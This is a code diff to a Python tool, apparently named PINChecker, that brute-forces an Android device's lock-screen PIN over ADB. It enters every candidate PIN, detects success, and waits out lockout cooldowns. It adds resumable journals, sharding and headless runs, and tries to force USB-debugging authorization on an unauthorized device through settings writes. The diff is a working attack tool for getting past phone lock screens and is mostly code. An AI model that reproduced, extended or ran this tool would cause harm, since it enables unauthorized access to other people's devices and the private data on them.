+        for disconnects in (False, True):
+            script = batch.script(disconnects=disconnects)
+            if not script:
+                continue
+            try:
+                output += self.shell_script(script).stdout + '\n'
+            except CalledProcessError as e:
+                if not disconnects:
+                    self.log(f"Settings batch failed: {e.output}", style="red")
+                    return None
+                self.debug(lambda e=e: f"Shell dropped while applying settings: {e.output}")
+                disconnected = True
+
+        results = batch.parse(output, disconnected)
+        for key, outcome in results.items():
+            if outcome.returncode is None:
+                self.debug(lambda key=key, outcome=outcome:
+                           f"{key}: {'connection lost' if outcome.changed else 'not applied'}")
+            elif outcome.returncode != 0:
+                self.debug(lambda key=key, outcome=outcome: f"{key}: failed (exit {outcome.returncode})")
+            else:
+                self.debug(lambda key=key, outcome=outcome:
+                           f"{key}: {'updated' if outcome.changed else 'unchanged'}")
+
+        if batch.needs_restart(results):
+            self.debug("Restarting ADB server to apply changes")
+            if not self.restart_adb_server():
+                self.log("ADB server restart failed", style="red")
+                return None
+        return results
 
     def run_command(self, command, check_output=False):
         """Run a command and handle errors"""
         try:
-            self.debug(f"Running command: {' '.join(command)}")
+            self.debug(lambda: f"Running command: {' '.join(command)}")
+            if command[:2] == ['adb', 'shell']:
+                result = self.shell(*command[2:], check=not check_output)
+                if check_output:
+                    self.debug(lambda: f"Command output: {result.stdout}")
+                    return result
+                return True
             if check_output:
-                result = run(command, stdout=PIPE, stderr=STDOUT, text=True)
-                self.debug(f"Command output: {result.stdout}")
+                result = self.run_host(command)
+                self.debug(lambda: f"Command output: {result.stdout}")
                 return result
             else:
-                run(command, check=True, stdout=PIPE, stderr=PIPE)
+                self.run_host(command, check=True)
                 return True
         except CalledProcessError as e:
             self.log(f"Command failed: {' '.join(command)}", style="red")
-            self.log(f"Error output: {e.stderr.decode() if e.stderr else e.stdout.decode()}", style="red")
+            error_output = e.stderr or e.stdout or ''
+            if isinstance(error_output, bytes):
+                error_output = error_output.decode(errors='replace')
+            self.log(f"Error output: {error_output}", style="red")
             return False
 
+    def add_developer_mode_settings(self, batch):
+        """Queue the writes that enable developer mode"""
+        for namespace in ('global', 'secure', 'system'):
+            batch.put_setting(namespace, 'development_settings_enabled', 1)
+
+    @timed('setup_developer_mode')
     def enable_developer_mode(self):
         """Enable developer mode automatically"""
         try:
             self.log("Attempting to enable developer mode...", style="blue")
-            
-            # Try multiple methods to enable developer mode
-            methods = [
-                ['adb', 'shell', 'settings', 'put', 'global', 'development_settings_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'secure', 'development_settings_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'system', 'development_settings_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'global', 'development_settings_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'secure', 'development_settings_enabled', '1']
-            ]
-            
-            for method in methods:
-                try:
-                    run(method, check=True)
-                    time.sleep(0.5)
-                except CalledProcessError:
-                    continue
-            
+
+            batch = SettingsBatch()
+            self.add_developer_mode_settings(batch)
+            if self.apply_settings(batch) is None:
+                return False
+
             self.log("Developer mode enabled", style="green")
             return True
         except Exception as e:
             self.log(f"Failed to enable developer mode: {e}", style="red")
             return False
 
+    @timed('setup_usb_debugging')
     def enable_usb_debugging(self):
         """Enable USB debugging on the device automatically"""
         try:
             self.log("Attempting to enable USB debugging...", style="blue")
-            
-            # First enable developer mode
-            if not self.enable_developer_mode():
-                self.log("Failed to enable developer mode", style="red")
+
+            # Developer mode, USB debugging and always-allow go in one round trip
+            batch = SettingsBatch()
+            self.add_developer_mode_settings(batch)
+            for namespace in ('global', 'secure', 'system'):
+                batch.put_setting(namespace, 'adb_enabled', 1, restart=True)
+            for namespace in ('global', 'secure', 'system'):
+                batch.put_setting(namespace, 'adb_always_allow', 1)
+
+            if self.apply_settings(batch) is None:
+                self.log("Failed to enable USB debugging", style="red")
                 return False
-            
-            # Try multiple methods to enable USB debugging
-            methods = [
-                ['adb', 'shell', 'settings', 'put', 'global', 'adb_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'secure', 'adb_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'system', 'adb_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'global', 'adb_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'secure', 'adb_enabled', '1']
-            ]
-            
-            for method in methods:
-                try:
-                    run(method, check=True)
-                    time.sleep(0.5)
-                except CalledProcessError:
-                    continue
-            
-            # Try to set USB debugging to always allow
-            allow_methods = [
-                ['adb', 'shell', 'settings', 'put', 'global', 'adb_always_allow', '1'],
-                ['adb', 'shell', 'settings', 'put', 'secure', 'adb_always_allow', '1'],
-                ['adb', 'shell', 'settings', 'put', 'system', 'adb_always_allow', '1']
-            ]
-            
-            for method in allow_methods:
-                try:
-                    run(method, check=True)
-                    time.sleep(0.5)
-                except CalledProcessError:
-                    continue
-            
-            # Restart ADB server to apply changes
-            run(['adb', 'kill-server'], check=True)
-            time.sleep(1)
-            run(['adb', 'start-server'], check=True)
-            time.sleep(2)
-            
+
             self.log("USB debugging enabled successfully", style="green")
             return True
         except Exception as e:
             self.log(f"Failed to enable USB debugging: {e}", style="red")
             return False
 
+    @timed('setup_usb_authorization')
     def handle_usb_authorization(self):
         """Handle USB debugging authorization automatically"""
         try:
             self.log("Checking USB authorization status...", style="blue")
             
-            # Kill and restart ADB server to ensure clean state
-            run(['adb', 'kill-server'], check=True)
-            time.sleep(1)
-            run(['adb', 'start-server'], check=True)
-            time.sleep(2)
-            
+            devices = self.connected_devices()
+            if devices is None:
+                self.log("Could not query ADB devices", style="red")
+                return False
+
             # Check if device is unauthorized
-            result = run(['adb', 'devices'], stdout=PIPE, stderr=STDOUT, text=True)
-            if 'unauthorized' in result.stdout:
+            if 'unauthorized' in devices.values():
                 self.log("Device is unauthorized. Attempting to authorize...", style="yellow")
-                
-                # Try multiple methods to accept authorization
-                try:
-                    # Method 1: Try to accept USB debugging authorization
-                    run(['adb', 'shell', 'settings', 'put', 'secure', 'adb_authorized', '1'], check=True)
-                    time.sleep(1)
-                    
-                    # Method 2: Try to accept USB debugging authorization (alternative)
-                    run(['adb', 'shell', 'settings', 'put', 'global', 'adb_authorized', '1'], check=True)
-                    time.sleep(1)
-                    
-                    # Method 3: Try to set USB debugging to always allow
-                    run(['adb', 'shell', 'settings', 'put', 'secure', 'adb_always_allow', '1'], check=True)
-                    time.sleep(1)
-                    
-                    # Method 4: Try to set USB debugging to always allow (alternative)
-                    run(['adb', 'shell', 'settings', 'put', 'global', 'adb_always_allow', '1'], check=True)
-                    time.sleep(1)
-                    
-                    # Restart ADB server again
-                    run(['adb', 'kill-server'], check=True)
-                    time.sleep(1)
-                    run(['adb', 'start-server'], check=True)
-                    time.sleep(2)
-                except CalledProcessError:
+
+                # Try to accept authorization and set USB debugging to always allow
+                batch = SettingsBatch()
+                for namespace in ('secure', 'global'):
+                    batch.put_setting(namespace, 'adb_authorized', 1, restart=True)
+                for namespace in ('secure', 'global'):
+                    batch.put_setting(namespace, 'adb_always_allow', 1, restart=True)
+                if self.apply_settings(batch) is None:
                     self.log("Could not set automatic authorization, trying alternative method...", style="yellow")
-                
-                # Wait for authorization to be accepted
-                max_attempts = 30
-                for attempt in range(max_attempts):
-                    result = run(['adb', 'devices'], stdout=PIPE, stderr=STDOUT, text=True)
-                    if 'device' in result.stdout and 'unauthorized' not in result.stdout:
-                        self.log("Device authorized successfully", style="green")
-                        return True
-                    time.sleep(1)
+
+                # Wait for authorization to be accepted; the tracker wakes us
+                # as soon as the device state changes
+                authorized = lambda devices: ('device' in devices.values()
+                                              and 'unauthorized' not in devices.values())
+                if self.tracker.wait_for(authorized, timeout=30):
+                    self.log("Device authorized successfully", style="green")
+                    return True
                 
                 self.log("Failed to get device authorization", style="red")
                 return False
@@ -207,16 +2267,20 @@ class PINChecker:
             self.log(f"Error checking ADB: {str(e)}", style="red")
             return False
 
+    @timed('check_device_connected')
     def check_device_connected(self):
         try:
             self.debug("Checking for connected devices...")
-            result = self.run_command(['adb', 'devices'], check_output=True)
-            if not result:
-                return False
-            
-            devices = result.stdout.strip().split('\n')
-            devices = [d for d in devices if d and not d.startswith('List')]
-            
+            tracked = self.connected_devices()
+            if tracked is None:
+                result = self.run_command(['adb', 'devices'], check_output=True)
+                if not result:
+                    return False
+                devices = result.stdout.strip().split('\n')
+                devices = [d for d in devices if d and not d.startswith('List')]
+            else:
+                devices = [f"{serial}\t{state}" for serial, state in tracked.items()]
+
             if devices:
                 self.log(f"Found {len(devices)} connected device(s)", style="green")
                 for device in devices:
@@ -229,17 +2293,23 @@ class PINChecker:
             self.log(f"Error checking devices: {str(e)}", style="red")
             return False
 
+    @timed('get_screen_size')
     def get_screen_size(self):
+        geometry = self.state_cache.get('geometry')
+        if geometry is not None:
+            return geometry
         try:
             self.debug("Getting screen size...")
-            result = self.run_command(['adb', 'shell', 'wm', 'size'], check_output=True)
-            if not result:
-                return self.width, self.height
-            
+            # Size and orientation in one round trip
+            result = self.shell_script("wm size; dumpsys input | grep -m 1 SurfaceOrientation")
+
+            self.store_orientation(result.stdout)
+
             match = re.search(r'Physical size: (\d+)x(\d+)', result.stdout)
             if match:
                 self.width = int(match.group(1))
                 self.height = int(match.group(2))
+                self.state_cache.set('geometry', (self.width, self.height))
                 self.log(f"Detected screen size: {self.width}x{self.height}", style="blue")
             else:
                 self.log("Could not parse screen size, using default", style="yellow")
@@ -248,46 +2318,97 @@ class PINChecker:
             self.log(f"Error getting screen size: {str(e)}", style="red")
             return self.width, self.height
 
+    def store_orientation(self, output):
+        """Cache the rotation from `dumpsys input` output (0 if absent)"""
+        orientation = re.search(r'SurfaceOrientation: (\d)', output)
+        self.state_cache.set('orientation', int(orientation.group(1)) if orientation else 0)
+
+    def swipe_coordinates(self):
+        """Return (start_x, start_y, end_x, end_y) for an upward swipe"""
+        width, height = self.get_screen_size()
+        # Rotations 1 and 3 are landscape: the physical axes are swapped
+        if self.state_cache.get('orientation', 0) in (1, 3):
+            width, height = height, width
+        return width // 2, int(height * 0.8), width // 2, int(height * 0.2)
+
+    @timed('wake_screen')
     def wake_screen(self):
         """Wake up the device screen and keep it on"""
         try:
-            # Wake up device
-            run(['adb', 'shell', 'input', 'keyevent', '26'], check=True)
-            time.sleep(0.2)
-            
-            # Keep screen on
-            run(['adb', 'shell', 'svc', 'power', 'stayon', 'true'], check=True)
+            # Wake up device, re-reading the rotation in the same round trip:
+            # rotating is a configuration change the tracker never reports
+            result = self.shell_script(
+                "input keyevent 26 && { dumpsys input | grep -m 1 SurfaceOrientation; true; }",
+                check=True)
+            self.store_orientation(result.stdout)
+            self.pause(0.2)
+
+            # Keep screen on, unless we already did on this connection
+            if not self.state_cache.get('stay_on'):
+                self.shell('svc', 'power', 'stayon', 'true', check=True)
+                self.state_cache.set('stay_on', True)
             # Set screen timeout to 1 hour (3600000 ms)
-            run(['adb', 'shell', 'settings', 'put', 'system', 'screen_off_timeout', '3600000'], check=True)
-            
+            if self.state_cache.get('screen_off_timeout') != 3600000:
+                self.shell('settings', 'put', 'system', 'screen_off_timeout', '3600000', check=True)
+                self.state_cache.set('screen_off_timeout', 3600000)
+
             self.log("Screen woken and set to stay on", style="green")
             return True
         except CalledProcessError as e:
             self.log(f"Error keeping screen on: {e}", style="red")
             return False
 
+    @timed('input_batch')
+    def inject(self, sequence, batched=True):
+        """Run an InputSequence and return its InputTiming.
+
+        Batched, the whole sequence is one round trip and the delays run on
+        the device; unbatched, every step is its own command with host-side
+        pauses in between, which is only kept to measure the difference.
+        Raises CalledProcessError if the device did not acknowledge it.
+        """
+        started = time.perf_counter()
+        if batched:
+            round_trips = 1
+            result = self.shell_script(sequence.script())
+            acknowledged = sequence.ACK in result.stdout
+        else:
+            round_trips = 0
+            acknowledged = True
+            for step in sequence.steps:
+                if step[0] == 'sleep':
+                    self.pause(float(step[1]))
+                    continue
+                round_trips += 1
+                result = self.shell(*step)
+                if result.returncode != 0:
+                    acknowledged = False
+                    break
+
+        timing = InputTiming(len(sequence), sequence.device_delay(), round_trips,
+                             time.perf_counter() - started, acknowledged)
+        self.metrics.increment('input_events', sequence.events())
+        self.metrics.increment('input_round_trips', round_trips)
+        # What the sequence cost beyond its own delays: the part batching saves
+        self.metrics.observe('input_overhead', max(0.0, timing.elapsed - timing.device_delay))
+        if not acknowledged:
+            raise CalledProcessError(result.returncode or 1, result.args, output=result.stdout)
+        return timing
+
+    @timed('initial_unlock')
     def initial_unlock(self):
         """Perform initial screen wake and unlock swipe."""
         try:
-            width, height = self.get_screen_size()
-            
-            # Calculate swipe coordinates
-            start_x = width // 2
-            start_y = int(height * 0.8)
-            end_x = width // 2
-            end_y = int(height * 0.2)
+            start_x, start_y, end_x, end_y = self.swipe_coordinates()
             
-            with console.status("[bold blue]Performing initial unlock sequence...", spinner="dots"):
+            with self.console.status("[bold blue]Performing initial unlock sequence...", spinner="dots"):
                 # Wake up device and keep screen on
                 self.wake_screen()
                 
                 # Swipe gestures
-                run(['adb', 'shell', 'input', 'swipe', 
-                    str(start_x), str(start_y), str(end_x), str(end_y), '100'], check=True)
-                time.sleep(1)
-                run(['adb', 'shell', 'input', 'swipe', 
-                    str(start_x), str(start_y), str(end_x), str(end_y), '100'], check=True)
-                time.sleep(1)
+                self.inject(InputSequence()
+                            .swipe(start_x, start_y, end_x, end_y, 100).delay(1)
+                            .swipe(start_x, start_y, end_x, end_y, 100).delay(1))
 
             self.log("Initial unlock sequence completed", style="green")
             return True
@@ -295,138 +2416,107 @@ class PINChecker:
             self.log(f"Error during initial unlock: {e}", style="red")
             return False
 
+    @timed('swipe_up')
     def swipe_up(self):
         """Perform a quick swipe up gesture"""
         try:
-            width, height = self.get_screen_size()
-            start_x = width // 2
-            start_y = int(height * 0.8)
-            end_x = width // 2
-            end_y = int(height * 0.2)
+            start_x, start_y, end_x, end_y = self.swipe_coordinates()
             
-            run(['adb', 'shell', 'input', 'swipe', 
-                str(start_x), str(start_y), str(end_x), str(end_y), '30'], check=True)  # Reduced from 50 to 30
-            time.sleep(0.2)  # Reduced from 0.5 to 0.2
+            self.inject(InputSequence()
+                        .swipe(start_x, start_y, end_x, end_y, 30)  # Reduced from 50 to 30
+                        .delay(0.2))  # Reduced from 0.5 to 0.2
             return True
         except CalledProcessError as e:
             self.log(f"Error during swipe: {e}", style="red")
             return False
 
+    def pin_sequence(self, pin):
+        """The key events that type pin and press enter"""
+        sequence = InputSequence()
+        for digit in pin:
+            sequence.key(int(digit) + 7).delay(0.02)  # Reduced from 0.05 to 0.02
+        return sequence.key(66).delay(0.2)  # Reduced from 0.3 to 0.2
+
+    @timed('enter_pin')
     def enter_pin(self, pin):
         try:
             # Enter all digits faster without waking screen
-            for digit in pin:
-                keycode = str(int(digit) + 7)
-                run(['adb', 'shell', 'input', 'keyevent', keycode], check=True)
-                time.sleep(0.02)  # Reduced from 0.05 to 0.02
-            run(['adb', 'shell', 'input', 'keyevent', '66'], check=True)
-            time.sleep(0.2)  # Reduced from 0.3 to 0.2
+            self.inject(self.pin_sequence(pin))
             return True
         except CalledProcessError as e:
             self.log(f"Error entering PIN: {e}", style="red")
             return False
 
+    @timed('check_if_unlocked')
     def check_if_unlocked(self):
-        try:
-            result = run(['adb', 'shell', 'dumpsys', 'window'], stdout=PIPE, stderr=PIPE, text=True)
-            return 'mDreamingLockscreen=false' in result.stdout
-        except CalledProcessError:
-            return False
+        result = self.lock_probe.probe(self)
+        self.debug(lambda: f"Lock probe via {result.backend}: unlocked={result.unlocked}, "
+                   f"{result.bytes_read} bytes in {result.latency * 1000:.1f} ms")
+        return result.unlocked is True
 
+    @timed('setup_usb_data_access')
     def handle_usb_data_access(self):
         """Handle USB data access permissions automatically"""
         try:
             self.log("Setting up USB data access...", style="blue")
-            
-            # Try multiple methods to enable USB data access
-            methods = [
-                ['adb', 'shell', 'settings', 'put', 'global', 'usb_mass_storage_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'secure', 'usb_mass_storage_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'system', 'usb_mass_storage_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'global', 'usb_mass_storage_enabled', '1'],
-                ['adb', 'shell', 'settings', 'put', 'secure', 'usb_mass_storage_enabled', '1']
-            ]
-            
-            for method in methods:
-                try:
-                    run(method, check=True)
-                    time.sleep(0.5)
-                except CalledProcessError:
-                    continue
-            
-            # Try to set USB mode to MTP (Media Transfer Protocol)
-            mtp_methods = [
-                ['adb', 'shell', 'svc', 'usb', 'setFunction', 'mtp'],
-                ['adb', 'shell', 'setprop', 'sys.usb.config', 'mtp'],
-                ['adb', 'shell', 'setprop', 'sys.usb.state', 'mtp']
-            ]
-            
-            for method in mtp_methods:
-                try:
-                    run(method, check=True)
-                    time.sleep(0.5)
-                except CalledProcessError:
-                    continue
-            
-            # Try to set USB mode to MTP+ADB
-            mtp_adb_methods = [
-                ['adb', 'shell', 'svc', 'usb', 'setFunction', 'mtp,adb'],
-                ['adb', 'shell', 'setprop', 'sys.usb.config', 'mtp,adb'],
-                ['adb', 'shell', 'setprop', 'sys.usb.state', 'mtp,adb']
-            ]
-            
-            for method in mtp_adb_methods:
-                try:
-                    run(method, check=True)
-                    time.sleep(0.5)
-                except CalledProcessError:
-                    continue
-            
-            # Restart ADB server to apply changes
-            run(['adb', 'kill-server'], check=True)
-            time.sleep(1)
-            run(['adb', 'start-server'], check=True)
-            time.sleep(2)
-            
+
+            batch = SettingsBatch()
+            for namespace in ('global', 'secure', 'system'):
+                batch.put_setting(namespace, 'usb_mass_storage_enabled', 1)
+
+            # USB mode MTP+ADB; switching functions re-enumerates the device
+            batch.command('svc/usb', ['svc', 'usb', 'setFunction', 'mtp,adb'],
+                          probe=['getprop', 'sys.usb.config'], expected='mtp,adb',
+                          restart=True, disconnects=True)
+            batch.set_prop('sys.usb.config', 'mtp,adb', restart=True, disconnects=True)
+            batch.set_prop('sys.usb.state', 'mtp,adb', restart=True, disconnects=True)
+
+            if self.apply_settings(batch) is None:
+                return False
+
             self.log("USB data access enabled successfully", style="green")
             return True
         except Exception as e:
             self.log(f"Failed to enable USB data access: {e}", style="red")
             return False
 
-    def setup_checks(self):
+    @timed('setup_checks')
+    def setup_checks(self, allow_root=False, interactive=True):
         """Perform all initial setup checks with better error handling"""
         self.log("Starting initial checks...", style="blue")
         
         try:
             # Check if running as root
-            if os.geteuid() == 0:
-                self.console.print(Panel.fit(
+            if os.geteuid() == 0 and not allow_root:
+                self.panel(
                     "[yellow]Warning: Running this script as root is not recommended![/yellow]"
-                ))
+                )
+                if not interactive:
+                    self.log("Refusing to run as root without --allow-root", style="red")
+                    return False
                 choice = input("Continue anyway? (y/N): ")
                 if choice.lower() != 'y':
                     self.log("Exiting due to root user", style="yellow")
-                    sys.exit(1)
+                    return False
 
             # Check ADB installation
             if not self.check_adb_installed():
-                self.console.print(Panel.fit(
+                self.panel(
                     "[red]Error: ADB is not installed or not working[/red]\n\n"
                     "Please install using one of these commands:\n"
                     "[blue]sudo apt install adb[/blue]    # For Debian/Ubuntu\n"
                     "[blue]sudo pacman -S android-tools[/blue]    # For Arch Linux\n"
                     "[blue]sudo dnf install android-tools[/blue]    # For Fedora"
-                ))
-                sys.exit(1)
+                )
+                return False
 
             # Check device connection
             if not self.check_device_connected():
-                self.console.print(Panel.fit(
+                self.panel(
                     "[red]No Android device connected![/red]\n\n"
                     "Please connect your device via USB and try again."
-                ))
-                sys.exit(1)
+                )
+                return False
 
             # Try to enable USB debugging and handle authorization
             if not self.handle_usb_authorization():
@@ -454,31 +2544,70 @@ class PINChecker:
             self.log(f"Unexpected error during setup: {str(e)}", style="red")
             return False
 
-    def wait_with_countdown(self, seconds):
-        """Display a simple countdown timer without progress bar"""
+    def make_renderer(self, state):
+        """Pick the progress renderer for this run"""
+        if self.headless:
+            return HeadlessRenderer(state, self.status_stream,
+                                    interval=self.status_interval or 10.0)
+        if isinstance(self.console, PlainConsole):
+            # No rich to draw a bar with: status lines go where the console prints
+            stream = sys.stderr if self.console.stderr else sys.stdout
+            return HeadlessRenderer(state, stream, interval=self.status_interval or 10.0)
+        return RichProgressRenderer(state, self.console, interval=self.status_interval or 1.0)
+
+    def wait_with_countdown(self, seconds, state=None):
+        """Wait out the lockout; the renderer shows the countdown from state"""
         self.log(f"Waiting for {seconds} seconds...", style="yellow")
-        for remaining in range(seconds, 0, -1):
-            sys.stdout.write(f"\rTime remaining: {remaining} seconds...")
-            sys.stdout.flush()
-            time.sleep(1)
-        sys.stdout.write("\rResuming PIN attempts...                 \n")
-        sys.stdout.flush()
+        if state is not None:
+            state.cooldown_until = time.monotonic() + seconds
+            state.phase = 'cooldown'
+        self.pause(seconds)
+        if state is not None:
+            state.cooldown_until = 0.0  # pauses may be scaled down, e.g. in replays
+            state.phase = 'testing'
+        self.log("Resuming PIN attempts...", style="blue")
         
         # Wake screen and swipe up after timeout
         self.log("Waking screen and performing swipe...", style="blue")
         self.wake_screen()
         self.swipe_up()
 
-    def check_all_pins(self):
+    def finish_early(self, state, outcome):
+        """End a run before the PIN loop, still writing a final status line"""
+        self.outcome = state.phase = outcome
+        renderer = self.make_renderer(state)
+        if isinstance(renderer, HeadlessRenderer):
+            renderer.emit()
+
+    def check_all_pins(self, candidates=None):
+        """Try every candidate; returns the PIN found, or None.
+
+        How the search ended is left in self.outcome: 'found', 'exhausted',
+        or 'no-device', 'unlock-failed' and 'error' for runs that failed.
+        """
+        self.outcome = None
+        candidates = candidates or NumericCandidates()
+        journal = self.journal
+        state = ProgressState(candidates.total)
+
+        # Nothing to do on the device when an earlier run already found it
+        if journal is not None and journal.unlocked is not None:
+            formatted_pin = candidates.lookup(journal.unlocked)
+            self.panel(f"[green]PIN already found by an earlier run: {formatted_pin}[/green]")
+            state.result = formatted_pin
+            self.finish_early(state, 'found')
+            return formatted_pin
+
         if not self.check_device_connected():
-            self.console.print(Panel.fit(
+            self.panel(
                 "[red]No Android device connected![/red]\n\n"
                 "Please ensure:\n"
                 "1. Connect your device via USB\n"
                 "2. Enable USB debugging in Developer options\n"
                 "3. Accept the USB debugging prompt on your device\n"
                 "4. Run 'adb devices' to verify connection"
-            ))
+            )
+            self.finish_early(state, 'no-device')
             return
 
         self.start_time = datetime.now()
@@ -487,80 +2616,251 @@ class PINChecker:
         self.log("Waking screen and performing initial unlock...", style="blue")
         if not self.initial_unlock():
             self.log("Failed to perform initial unlock sequence", style="red")
+            self.finish_early(state, 'unlock-failed')
             return
 
-        total_pins = 10000
         current_attempt = 0
+
+        self.metrics.start_exporter()
         
+        if journal is not None and journal.completed():
+            self.log(f"Resuming: {journal.completed()} PINs already tried", style="blue")
+        renderer = self.make_renderer(state)
+        renderer.start()
         try:
-            with Progress(
-                SpinnerColumn(),
-                TextColumn("[progress.description]{task.description}"),
-                BarColumn(),
-                TextColumn("[progress.percentage]{task.percentage:>3.0f}%"),
-                TimeElapsedColumn(),
-                refresh_per_second=1
-            ) as progress:
-                task = progress.add_task("Testing PINs...", total=total_pins)
+            state.phase = 'testing'
+            for index, formatted_pin in candidates:
+                if journal is not None and journal.is_done(index):
+                    state.completed += 1
+                    continue
+                state.current = formatted_pin
+                
+                if not self.enter_pin(formatted_pin):
+                    self.log(f"Failed to enter PIN: {formatted_pin}", style="red")
+                    self.pause(0.2)
+                    continue
+                
+                current_attempt += 1
+                self.attempts = current_attempt
+                state.attempts = current_attempt
+
+                unlocked = self.check_if_unlocked()
+                if journal is not None:
+                    journal.record(index, ATTEMPT_UNLOCKED if unlocked else ATTEMPT_FAILED)
+
+                if unlocked:
+                    state.completed += 1
+                    state.phase = 'found'
+                    state.result = formatted_pin
+                    renderer.stop()
+                    elapsed_time = datetime.now() - self.start_time
+                    self.panel(
+                        f"[green]SUCCESS! PIN found: {formatted_pin}[/green]\n"
+                        f"Time elapsed: {elapsed_time}\n"
+                        f"Total attempts: {self.attempts}"
+                    )
+                    self.outcome = 'found'
+                    return formatted_pin
                 
-                for pin in range(total_pins):
-                    formatted_pin = str(pin).zfill(4)
-                    progress.update(task, description=f"Testing PIN: {formatted_pin}")
-                    
-                    if not self.enter_pin(formatted_pin):
-                        self.log(f"Failed to enter PIN: {formatted_pin}", style="red")
-                        time.sleep(0.2)
-                        continue
-                    
-                    current_attempt += 1
-                    self.attempts = current_attempt
-
-                    if self.check_if_unlocked():
-                        elapsed_time = datetime.now() - self.start_time
-                        self.console.print(Panel.fit(
-                            f"[green]SUCCESS! PIN found: {formatted_pin}[/green]\n"
-                            f"Time elapsed: {elapsed_time}\n"
-                            f"Total attempts: {self.attempts}"
-                        ))
-                        return formatted_pin
-                    
-                    # Pause every 5 attempts
-                    if current_attempt % 5 == 0:
-                        progress.stop()
-                        self.wait_with_countdown(30)
-                        # Wake screen and swipe after timeout
-                        self.log("Waking screen and performing swipe...", style="blue")
-                        self.wake_screen()
-                        self.swipe_up()
-                        progress.start()
-                    
-                    progress.update(task, advance=1)
-                    time.sleep(0.02)
+                # Pause every 5 attempts
+                if current_attempt % 5 == 0:
+                    if journal is not None:
+                        journal.sync()
+                    self.wait_with_countdown(30, state)
+                    # Wake screen and swipe after timeout
+                    self.log("Waking screen and performing swipe...", style="blue")
+                    self.wake_screen()
+                    self.swipe_up()
+                
+                state.completed += 1
+                self.pause(0.02)
+
+            state.phase = 'exhausted'
+            self.outcome = 'exhausted'
+            renderer.stop()
             
             # Show final results
             elapsed_time = datetime.now() - self.start_time
-            self.console.print(Panel.fit(
+            self.panel(
                 "[red]PIN check completed - No matching PIN found[/red]\n"
                 f"Time elapsed: {elapsed_time}\n"
                 f"Total attempts: {self.attempts}"
-            ))
+            )
             
         except Exception as e:
+            state.phase = 'error'
+            self.outcome = 'error'
             self.log(f"Error during PIN checking: {str(e)}", style="red")
             return None
+        finally:
+            renderer.stop()
+            if journal is not None:
+                journal.sync()
+            self.metrics.stop_exporter()
+
+
+def devices_command(args):
+    """Print connected devices, one `serial<TAB>state` per line"""
+    checker = PINChecker(backend=args.backend, log_level=WARNING, headless=True)
+    try:
+        devices = checker.connected_devices()
+    finally:
+        checker.tracker.stop()
+        checker.session.close()
+    if devices is None:
+        print("Could not reach the adb server", file=sys.stderr)
+        return 1
+    if args.json:
+        print(json.dumps(devices))
+    else:
+        for serial, state in devices.items():
+            print(f"{serial}\t{state}")
+    return 0 if devices else 1
+
+
+def add_connection_arguments(parser):
+    parser.add_argument('--backend', choices=sorted(SESSION_BACKENDS), default='session',
+                        help='how to reach the device (default: session)')
+
 
-def main():
+def parse_shard(text):
     try:
-        console.clear()
-        console.print(Panel.fit(
+        index, count = (int(part) for part in text.split('/'))
+    except ValueError:
+        raise argparse.ArgumentTypeError(f"expected K/N, got {text!r}")
+    if not 0 <= index < count:
+        raise argparse.ArgumentTypeError(f"shard {index} is not in 0..{count - 1}")
+    return index, count
+
+
+def positive_int(text):
+    try:
+        value = int(text)
+    except ValueError:
+        raise argparse.ArgumentTypeError(f"expected a whole number, got {text!r}")
+    if value < 1:
+        raise argparse.ArgumentTypeError(f"must be at least 1, got {value}")
+    return value
+
+
+def add_candidate_arguments(parser):
+    # No argparse defaults, so main() can tell these apart from --wordlist
+    parser.add_argument('--length', type=positive_int, help='PIN length (default: 4)')
+    parser.add_argument('--start', type=int, help='first PIN to try, as a number (default: 0)')
+    parser.add_argument('--end', type=int, help='stop before this PIN (default: 10**length)')
+    parser.add_argument('--wordlist', metavar='PATH',
+                        help='try the PINs listed in this file, one per line, instead')
+    parser.add_argument('--shard', type=parse_shard, metavar='K/N',
+                        help='only try shard K of N (K counts from 0), e.g. 0/4')
+
+
+def candidate_options(args):
+    options = {'length': args.length, 'start': args.start, 'end': args.end,
+               'wordlist': args.wordlist, 'shard': args.shard}
+    return {name: value for name, value in options.items() if value is not None}
+
+
+def add_output_arguments(parser):
+    parser.add_argument('--status-interval', type=float, metavar='SECONDS',
+                        help='progress refresh interval (default: 1, headless: 10)')
+    parser.add_argument('--log-level', choices=list(LOG_LEVELS), default='info')
+    parser.add_argument('--debug', action='store_const', dest='log_level', const='debug',
+                        help='shorthand for --log-level debug')
+    parser.add_argument('--log-file', metavar='PATH', help='also write logs as JSON lines')
+    parser.add_argument('--metrics-json', metavar='PATH', help='export metrics as JSON')
+    parser.add_argument('--metrics-prom', metavar='PATH',
+                        help='export metrics in Prometheus text format')
+    parser.add_argument('--metrics-interval', type=float, metavar='SECONDS',
+                        help='also export metrics periodically during the run')
+
+
+def add_run_arguments(parser):
+    add_connection_arguments(parser)
+    parser.add_argument('-y', '--yes', action='store_true',
+                        help='do not wait for Enter before starting')
+    parser.add_argument('--allow-root', action='store_true',
+                        help='run as root without asking')
+    parser.add_argument('--headless', action='store_true',
+                        help='print JSON status lines instead of the interactive display')
+    add_output_arguments(parser)
+    add_candidate_arguments(parser)
+    parser.add_argument('--record', metavar='PATH',
+                        help='write a replayable trace of all device interaction')
+    parser.add_argument('--journal', metavar='PATH',
+                        help='record attempts here and resume from it after a restart')
+    parser.add_argument('--journal-import', metavar='PATH', action='append', default=[],
+                        help="skip PINs finished in another run's journal (repeatable)")
+    parser.add_argument('--journal-batch', type=int, default=16, metavar='N',
+                        help='attempts per journal fsync (default: 16)')
+
+
+def build_parser():
+    parser = argparse.ArgumentParser(
+        prog='pin_checker.py',
+        description='Android PIN Checker. Runs the PIN check when no command is given.',
+        epilog=f'run exits with {EXIT_FOUND} when the PIN was found, {EXIT_NOT_FOUND} when '
+               f'every candidate was tried without a match and {EXIT_FAILED} on any failure.')
+    commands = parser.add_subparsers(dest='command', metavar='command')
+    add_run_arguments(commands.add_parser('run', help='set up the device and check PINs'))
+    # Parsed by pin_checker_sim; listed here so it shows up in --help
+    commands.add_parser('benchmark', add_help=False,
